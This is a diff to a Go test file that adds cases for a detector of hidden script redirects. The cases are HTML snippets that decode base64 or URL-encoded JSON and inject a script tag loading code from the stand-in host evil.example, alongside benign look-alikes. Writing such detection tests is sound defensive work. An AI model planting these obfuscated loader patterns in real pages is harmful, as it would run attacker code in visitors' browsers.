@@ -3,6 +3,7 @@ package links
 import (
 	"encoding/base64"
 	"fmt"
+	"net/url"
 	"slices"
 	"strings"
 	"testing"
@@ -77,6 +78,17 @@ func TestHiddenRedirectFolded(t *testing.T) {
 		{"a loader's scripts from its decoded configuration", `<script>var cfg=JSON.parse(decodeURIComponent(document.getElementById('c').getAttribute('data-config')));cfg.scripts.forEach(function(u){var s=document.createElement('script');s.src=u;document.head.appendChild(s)})</script>`, false},
 		{"a widget's script from a base64 configuration", `<script>var conf=JSON.parse(atob(document.body.getAttribute('data-c')));var el=document.createElement("script");el.async=true;el.src=conf.widget;document.body.appendChild(el)</script>`, false},
 		{"a built script's src from a name decoded far before", `<script>var u=unescape(k);` + strings.Repeat("var x=1;", 60) + `var s=document.createElement('script');s.src=u;document.head.appendChild(s)</script>`, true},
+		{"a built script's src from a written base64 JSON's field", `<script>var k="` + b(`{"u":"https://evil.example/k.js"}`) + `";var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;document.head.appendChild(s)</script>`, true},
+		{"a built script's src from an inline base64 JSON's field", `<script>var s=document.createElement('script');s.setAttribute('src', JSON.parse(atob('` + b(`{"a":1,"u":"//evil.example/k.js"}`) + `')).u);document.head.appendChild(s)</script>`, true},
+		{"a built script's src from a name holding decoded JSON", `<script>var c=JSON.parse(atob("` + b(`{"theme":"dark","src":"https://evil.example/k.js"}`) + `"));var s=document.createElement('script');s.src=c.src;document.head.appendChild(s)</script>`, true},
+		{"a nested field of decoded JSON, its key in upper case", `<script>var c=JSON.parse(decodeURIComponent('` + url.PathEscape(`{"Cfg":{"URL":"https://evil.example/k.js"}}`) + `'));var s=document.createElement('script');s.src=c.Cfg.URL.trim();document.body.append(s)</script>`, true},
+		{"an item of a decoded JSON list", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`["x","data:text/javascript,location='https://evil.example/'"]`) + `'))[1];document.head.appendChild(s)</script>`, true},
+		{"a decoded JSON string", `<script>var u=JSON.parse(atob('` + b(`"https://evil.example/k.js"`) + `'));var s=document.createElement('script');s.src=u;document.head.appendChild(s)</script>`, true},
+		{"a computed field of decoded JSON holding an address", `<script>var c=JSON.parse(atob("` + b(`{"x":"https://evil.example/k.js"}`) + `"));var s=document.createElement('script');s.src=c[key];document.head.appendChild(s)</script>`, true},
+		{"a written base64 JSON's field of no address", `<script>var k="` + b(`{"u":"/static/app.js","theme":"dark"}`) + `";var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;document.head.appendChild(s)</script>`, false},
+		{"another field than the address of decoded JSON", `<script>var c=JSON.parse(atob("` + b(`{"cdn":"https://cdn.example/","file":"app.js"}`) + `"));var s=document.createElement('script');s.src=c.file;document.head.appendChild(s)</script>`, false},
+		{"decoded JSON of a string the page holds", `<script>var s=document.createElement('script');s.src=JSON.parse(atob(document.body.dataset.c)).u;document.head.appendChild(s)</script>`, false},
+		{"a decoded string that is no JSON", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`https://evil.example/k.js`) + `'));document.head.appendChild(s)</script>`, false},
 		{"a built image's src", `<script>var i=document.createElement('img');i.src=atob(x);document.body.appendChild(i)</script>`, false},
 		{"a built stylesheet link's href", `<script>var l=document.createElement('link');l.rel='stylesheet';l.href=atob(x);document.head.appendChild(l)</script>`, false},
 		{"a built scripts list's src", `<script>var s=document.createElement('noscript');s.src=atob(x)</script>`, false},
